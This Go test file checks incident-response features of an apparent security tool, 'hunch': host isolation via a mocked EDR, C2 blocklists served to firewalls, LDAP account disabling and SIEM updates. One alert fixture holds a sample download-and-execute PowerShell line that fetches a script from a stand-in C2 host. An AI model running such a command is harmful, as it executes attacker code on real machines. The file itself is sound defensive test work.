package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hunchsec/hunch/automation/respond"
	"github.com/hunchsec/hunch/internal/testldap"
)

// TestPlaybookIsolateAndBlock runs the triage playbook extended with containment in hunch serve:
// after the approval, the host is isolated on a replayed Microsoft Defender for Endpoint and the
// C2 domain lands on the c2 blocklist the server hands to firewalls as an External Dynamic List;
// the journal records both requests and their results.
func TestPlaybookIsolateAndBlock(t *testing.T) {
	var mu sync.Mutex
	var mdeCalls []string
	var isolateBody map[string]string
	mde := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		mdeCalls = append(mdeCalls, r.Method+" "+r.URL.Path)
		mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		switch {
		case r.URL.Path == "/tenant-9/oauth2/v2.0/token":
			io.WriteString(w, `{"token_type":"Bearer","expires_in":3599,"access_token":"tok"}`)
		case r.URL.Path == "/api/machines" && r.Header.Get("Authorization") == "Bearer tok":
			io.WriteString(w, `{"@odata.context":"x","value":[{"id":"m-1e5bc9d7","computerDnsName":"wks-014.corp.example.com","healthStatus":"Active"}]}`)
		case r.URL.Path == "/api/machines/m-1e5bc9d7/isolate":
			mu.Lock()
			json.Unmarshal(b, &isolateBody)
			mu.Unlock()
			w.WriteHeader(http.StatusCreated)
			io.WriteString(w, `{"id":"act-b89eb834","type":"Isolate","status":"Pending","machineId":"m-1e5bc9d7","computerDnsName":"wks-014.corp.example.com"}`)
		default:
			w.WriteHeader(http.StatusNotFound)
			io.WriteString(w, `{"error":{"code":"NotFound","message":"no such route"}}`)
		}
	}))
	defer mde.Close()

	dir := t.TempDir()
	examples, _ := filepath.Abs("../../examples")
	cfg := writeConfig(t, fmt.Sprintf(`enrich:
  providers:
    threatintel: {type: local, files: [%s/intel.csv], reliability: B}
server:
  edl:
    c2-domains: {kind: domain, tags: ["edl:c2"]}
    c2-ips: {kind: ip, tags: ["edl:c2"]}
`, examples))
	books := filepath.Join(dir, "playbooks")
	os.MkdirAll(books, 0o755)
	src, _ := os.ReadFile("../../examples/playbooks/triage-and-contain.yaml")
	os.WriteFile(filepath.Join(books, "contain.yaml"), src, 0o644)
	data := filepath.Join(dir, "data")
	addr := freeAddr(t)
	logs, stop := startServeEnv(t, data, addr, map[string]string{"HUNCH_MDE_TENANT_ID": "tenant-9", "HUNCH_MDE_CLIENT_ID": "app",
		"HUNCH_MDE_CLIENT_SECRET": "s", "HUNCH_MDE_URL": mde.URL, "HUNCH_MDE_LOGIN_URL": mde.URL},
		"--config", cfg, "--playbooks", books, "--playbook-poll", "100ms")
	defer stop()
	key := apiKeyFrom(t, logs.String())
	api := func(method, path, body string, out any) int {
		t.Helper()
		req, _ := http.NewRequest(method, "http://"+addr+path, strings.NewReader(body))
		req.Header.Set("Authorization", key)
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		b, _ := io.ReadAll(res.Body)
		if out != nil {
			json.Unmarshal(b, out)
		}
		return res.StatusCode
	}
	// The alert: encoded PowerShell reaching c2.example.com and 198.51.100.23 on WKS-014.
	var payload map[string]any
	raw, _ := os.ReadFile("../../examples/alerts/splunk_webhook.json")
	json.Unmarshal(raw, &payload)
	res := payload["result"].(map[string]any)
	res["host"] = "wks-014.corp.example.com"
	res["CommandLine"] = "powershell -enc " + encodedPowerShell("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1'); Invoke-WebRequest https://c2.example.com/beacon")
	body, _ := json.Marshal(payload)
	if code := api("POST", "/api/alerts/splunk", string(body), nil); code != 201 {
		t.Fatalf("alert: %d", code)
	}
	if code := api("POST", "/api/playbooks/triage-and-contain/run", `{"incident":1}`, nil); code != 201 {
		t.Fatalf("run: %d", code)
	}
	waitUntil := func(what string, cond func() bool) {
		t.Helper()
		for deadline := time.Now().Add(15 * time.Second); !cond(); time.Sleep(50 * time.Millisecond) {
			if time.Now().After(deadline) {
				var inc any
				api("GET", "/api/incidents/1", "", &inc)
				b, _ := json.MarshalIndent(inc, "", " ")
				t.Fatalf("%s\nincident: %s\nlog:\n%s", what, b, logs)
			}
		}
	}
	waitUntil("no approval asked", func() bool {
		var tasks []map[string]any
		api("GET", "/api/tasks", "", &tasks)
		return len(tasks) == 1 && strings.Contains(fmt.Sprint(tasks[0]["prompt"]), "isolate wks-014.corp.example.com and block")
	})
	// Nothing is isolated or blocked before the approval.
	mu.Lock()
	if len(mdeCalls) != 0 {
		t.Fatalf("the EDR was called before the approval: %v", mdeCalls)
	}
	mu.Unlock()
	if code := api("POST", "/api/tasks/1/approve", `{"answer":"contain","comment":"confirmed beaconing"}`, nil); code != 200 {
		t.Fatalf("approve: %d", code)
	}
	var inc struct {
		Status  string
		Journal []struct {
			Kind string
			Body map[string]any
		}
	}
	waitUntil("not closed", func() bool { api("GET", "/api/incidents/1", "", &inc); return inc.Status == "done" })

	// The EDR received the isolation request, once, with the incident in its comment.
	mu.Lock()
	isolations := 0
	for _, c := range mdeCalls {
		if c == "POST /api/machines/m-1e5bc9d7/isolate" {
			isolations++
		}
	}
	if isolations != 1 || !strings.HasPrefix(isolateBody["Comment"], "hunch incident 1: ") || isolateBody["IsolationType"] != "Full" {
		t.Errorf("isolation requests %d, body %v (%v)", isolations, isolateBody, mdeCalls)
	}
	mu.Unlock()
	// The EDL serves the domain (and the IP) to a firewall authenticating with Basic.
	edl := func(name string) string {
		req, _ := http.NewRequest("GET", "http://"+addr+"/edl/"+name, nil)
		req.SetBasicAuth("fw01", key)
		r, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer r.Body.Close()
		b, _ := io.ReadAll(r.Body)
		return string(b)
	}
	if got := edl("c2-domains"); got != "c2.example.com\n" {
		t.Errorf("c2-domains EDL: %q", got)
	}
	if got := edl("c2-ips"); got != "198.51.100.23\n" {
		t.Errorf("c2-ips EDL: %q", got)
	}
	// The journal records both actions with their requests and results.
	var isolated, blocked bool
	for _, e := range inc.Journal {
		out, _ := e.Body["output"].(map[string]any)
		if e.Kind != "output" || out == nil {
			continue
		}
		switch e.Body["task"] {
		case "isolate":
			ex, _ := out["exchanges"].([]any)
			isolated = out["action_id"] == "act-b89eb834" && len(ex) == 2 && bytes.Contains(must(json.Marshal(ex[1])), []byte(`"status":201`))
		case "block":
			blocked = out["list"] == "c2" && out["attributes"] == 2.0
		}
	}
	if !isolated || !blocked {
		t.Errorf("journal: isolate recorded %v, block recorded %v", isolated, blocked)
	}
}

func must(b []byte, err error) []byte {
	if err != nil {
		panic(err)
	}
	return b
}

func TestRespondCommand(t *testing.T) {
	var mu sync.Mutex
	var calls []string
	falcon := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		calls = append(calls, r.Method+" "+r.URL.Path+"?"+r.URL.RawQuery)
		mu.Unlock()
		switch r.URL.Path {
		case "/oauth2/token":
			w.WriteHeader(http.StatusCreated)
			io.WriteString(w, `{"access_token":"t","token_type":"bearer","expires_in":1799}`)
		case "/devices/queries/devices/v1":
			io.WriteString(w, `{"meta":{},"resources":["dev-42"],"errors":[]}`)
		case "/devices/entities/devices-actions/v2":
			w.WriteHeader(http.StatusAccepted)
			io.WriteString(w, `{"meta":{},"resources":[{"id":"dev-42","path":"/devices/entities/devices/v1"}],"errors":[]}`)
		}
	}))
	defer falcon.Close()
	vars := map[string]string{"HUNCH_FALCON_CLIENT_ID": "id", "HUNCH_FALCON_CLIENT_SECRET": "s", "HUNCH_FALCON_URL": falcon.URL}
	data := t.TempDir()
	if code, _, errOut := runHunchEnv(t, vars, "", "respond", "isolate", "WS01"); code != ExitUsage || !strings.Contains(errOut, "add --yes, or --dry-run") {
		t.Errorf("without --yes: %d %s", code, errOut)
	}
	code, out, errOut := runHunchEnv(t, vars, "", "respond", "isolate", "WS01", "--dry-run", "-o", "ndjson")
	if code != ExitOK || !strings.Contains(out, `"status":"dry run"`) || !strings.Contains(out, `dry_run`) {
		t.Fatalf("dry run: %d %s %s", code, out, errOut)
	}
	mu.Lock()
	for _, c := range calls {
		if strings.Contains(c, "devices-actions") {
			t.Errorf("a dry run sent the action: %v", calls)
		}
	}
	mu.Unlock()
	runHunch(t, "", "incident", "new", "--name", "beacon", "--data", data)
	code, out, errOut = runHunchEnv(t, vars, "", "respond", "isolate", "WS01", "--yes", "--incident", "1", "--data", data, "-o", "ndjson")
	if code != ExitOK || !strings.Contains(out, `"device_id":"dev-42"`) || !strings.Contains(out, `"status":"requested"`) {
		t.Fatalf("isolate: %d %s %s", code, out, errOut)
	}
	_, journal, _ := runHunch(t, "", "incident", "journal", "1", "--data", data, "-o", "ndjson")
	if !strings.Contains(journal, `\"respond\":\"isolate\"`) || !strings.Contains(journal, `action_name=contain`) {
		t.Errorf("journal lacks the request and result:\n%s", journal)
	}
	if code, _, errOut := runHunchEnv(t, nil, "", "respond", "release", "WS01", "--yes"); code != ExitUsage || !strings.Contains(errOut, "--edr") {
		t.Errorf("no EDR configured: %d %s", code, errOut)
	}
}

func TestBlockAndEDLCommands(t *testing.T) {
	data := t.TempDir()
	cfg := writeConfig(t, "server:\n  edl:\n    c2-domains: {kind: domain, tags: [\"edl:c2\"]}\n    c2-urls: {kind: url, tags: [\"edl:c2\"]}\n")
	if code, _, errOut := runHunch(t, "", "respond", "block", "--list", "c2", "--yes", "--data", data, "c2.example.com"); code != ExitFailure ||
		!strings.Contains(errOut, "no host organisation") {
		t.Errorf("before init: %d %s", code, errOut)
	}
	runHunch(t, "", "init", "--data", data, "--org", "SOC")
	if code, _, errOut := runHunch(t, "", "respond", "block", "--list", "c2", "--data", data, "c2.example.com"); code != ExitUsage || !strings.Contains(errOut, "--yes") {
		t.Errorf("without --yes: %d %s", code, errOut)
	}
	if code, _, errOut := runHunch(t, "", "respond", "block", "--list", "c2", "--yes", "--data", data, "not a value"); code != ExitUsage {
		t.Errorf("a non-indicator: %d %s", code, errOut)
	}
	if code, out, errOut := runHunch(t, "", "respond", "block", "--list", "c2", "--yes", "--data", data, "C2[.]example[.]com", "hxxp://c2.example.com/x"); code != ExitOK ||
		!strings.Contains(out, "2 values") {
		t.Fatalf("block: %d %s %s", code, out, errOut)
	}
	_, out, _ := runHunch(t, "", "intel", "edl", "c2-domains", "--config", cfg, "--data", data)
	_, urls, _ := runHunch(t, "", "intel", "edl", "c2-urls", "--config", cfg, "--data", data, "--format", "fortinet")
	_, lists, _ := runHunch(t, "", "intel", "edl", "--config", cfg, "--data", data)
	if out != "c2.example.com\n" || urls != "http://c2.example.com/x\n" || lists != "c2-domains\tdomain\tedl:c2\nc2-urls\turl\tedl:c2\n" {
		t.Errorf("edl: %q %q %q", out, urls, lists)
	}
}

// TestRespondAccounts disables, enables and ungroups an account on a real slapd from the CLI, and
// a playbook disables it too.
func TestRespondAccounts(t *testing.T) {
	url := testldap.Start(t)
	ctx := context.Background()
	dir := &respond.LDAP{URL: url, BindDN: testldap.AdminDN, Password: testldap.Password, BaseDN: testldap.BaseDN}
	for dn, attrs := range map[string]map[string][]string{
		testldap.BaseDN: {"objectClass": {"dcObject", "organization"}, "dc": {"corp"}, "o": {"Corp"}},
	} {
		if err := dir.Add(ctx, dn, attrs); err != nil {
			t.Fatal(err)
		}
	}
	dir.Add(ctx, "uid=jdoe,"+testldap.BaseDN, map[string][]string{"objectClass": {"inetOrgPerson", "adUser"}, "uid": {"jdoe"}, "cn": {"J Doe"},
		"sn": {"Doe"}, "sAMAccountName": {"jdoe"}, "userAccountControl": {"66048"}})
	dir.Add(ctx, "cn=vpn-users,"+testldap.BaseDN, map[string][]string{"objectClass": {"groupOfNames"}, "cn": {"vpn-users"},
		"member": {"uid=jdoe," + testldap.BaseDN, testldap.AdminDN}})
	vars := map[string]string{"HUNCH_LDAP_URL": url, "HUNCH_LDAP_BIND_DN": testldap.AdminDN, "HUNCH_LDAP_PASSWORD": testldap.Password,
		"HUNCH_LDAP_BASE_DN": testldap.BaseDN}
	uac := func() string {
		_, a, err := dir.Entry(ctx, "uid", "jdoe", "userAccountControl")
		if err != nil {
			t.Fatal(err)
		}
		return a["useraccountcontrol"][0]
	}
	if code, _, errOut := runHunchEnv(t, vars, "", "respond", "disable", "jdoe"); code != ExitUsage || !strings.Contains(errOut, "--yes") {
		t.Errorf("without --yes: %d %s", code, errOut)
	}
	code, out, errOut := runHunchEnv(t, vars, "", "respond", "disable", "jdoe", "--yes", "-o", "ndjson")
	if code != ExitOK || !strings.Contains(out, `"before":"66048","after":"66050"`) || uac() != "66050" {
		t.Fatalf("disable: %d %s %s (now %s)", code, out, errOut, uac())
	}
	if code, _, errOut := runHunchEnv(t, vars, "", "respond", "enable", "jdoe", "--yes"); code != ExitOK || uac() != "66048" {
		t.Fatalf("enable: %d %s (now %s)", code, errOut, uac())
	}
	if code, _, errOut := runHunchEnv(t, vars, "", "respond", "ungroup", "jdoe", "vpn-users", "--yes"); code != ExitOK {
		t.Fatalf("ungroup: %d %s", code, errOut)
	}
	if _, g, _ := dir.Entry(ctx, "cn", "vpn-users", "member"); len(g["member"]) != 1 {
		t.Errorf("members after ungroup: %v", g["member"])
	}
	if code, _, errOut := runHunchEnv(t, vars, "", "respond", "disable", "ghost", "--yes"); code != ExitFailure || !strings.Contains(errOut, "not found") {
		t.Errorf("unknown account: %d %s", code, errOut)
	}
	// In a playbook: the action disables the account and the journal keeps the entry and the change.
	data := t.TempDir()
	books := filepath.Join(t.TempDir(), "playbooks")
	os.MkdirAll(books, 0o755)
	os.WriteFile(filepath.Join(books, "lock.yaml"), []byte("name: lock\ntasks:\n  - {id: off, type: action, action: disable_account, with: {account: jdoe}}\n"), 0o644)
	runHunch(t, "", "incident", "new", "--name", "stolen credentials", "--data", data)
	code, out, errOut = runHunchEnv(t, vars, "", "playbook", "run", "lock", "--incident", "1", "--playbooks", books, "--data", data)
	if code != ExitOK || uac() != "66050" {
		t.Fatalf("playbook: %d %s %s (now %s)", code, out, errOut, uac())
	}
	_, journal, _ := runHunch(t, "", "incident", "journal", "1", "--data", data, "-o", "ndjson")
	if !strings.Contains(journal, `\"after\":\"66050\"`) || !strings.Contains(journal, `\"dn\":\"uid=jdoe,dc=corp,dc=example\"`) {
		t.Errorf("journal:\n%s", journal)
	}
}

func TestRespondSIEMUpdate(t *testing.T) {
	var mu sync.Mutex
	var form url.Values
	es := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		mu.Lock()
		form = r.PostForm
		mu.Unlock()
		if r.URL.Path != "/services/notable_update" || r.Header.Get("Authorization") != "Bearer es-token" {
			w.WriteHeader(http.StatusUnauthorized)
			io.WriteString(w, `{"messages":[{"type":"ERROR","text":"call not properly authenticated"}]}`)
			return
		}
		io.WriteString(w, `{"success":true,"message":"1 event updated successfully","details":{},"failure_count":0}`)
	}))
	defer es.Close()
	cfg := writeConfig(t, "siem:\n  connections:\n    es:\n      kind: splunk\n      url: "+es.URL+"\n      token: env:ES_TOKEN\n      insecure_skip_verify: true\n"+
		"    logs:\n      kind: files\n      paths: [/dev/null]\n")
	vars := map[string]string{"ES_TOKEN": "es-token"}
	code, out, errOut := runHunchEnv(t, vars, "", "respond", "siem-update", "es", "4D1F@@notable@@5b1f", "--status", "closed", "--comment", "contained by hunch",
		"--config", cfg, "-o", "ndjson")
	if code != ExitOK || !strings.Contains(out, "1 event updated successfully") {
		t.Fatalf("%d %s %s", code, out, errOut)
	}
	mu.Lock()
	if form.Get("ruleUIDs") != "4D1F@@notable@@5b1f" || form.Get("status") != "5" || form.Get("comment") != "contained by hunch" {
		t.Errorf("form %v", form)
	}
	mu.Unlock()
	if code, _, errOut := runHunchEnv(t, vars, "", "respond", "siem-update", "es", "x", "--status", "done-ish", "--config", cfg); code != ExitFailure || !strings.Contains(errOut, "want new, in progress") {
		t.Errorf("bad status: %d %s", code, errOut)
	}
	if code, _, errOut := runHunchEnv(t, vars, "", "respond", "siem-update", "logs", "x", "--status", "closed", "--config", cfg); code != ExitFailure || !strings.Contains(errOut, "splunk (ES) and sentinel") {
		t.Errorf("files connection: %d %s", code, errOut)
	}
	if code, _, errOut := runHunchEnv(t, nil, "", "respond", "siem-update", "es", "x", "--status", "closed", "--config", cfg); code != ExitFailure || !strings.Contains(errOut, "ES_TOKEN") && !strings.Contains(errOut, "authenticated") {
		t.Errorf("no token: %d %s", code, errOut)
	}
}
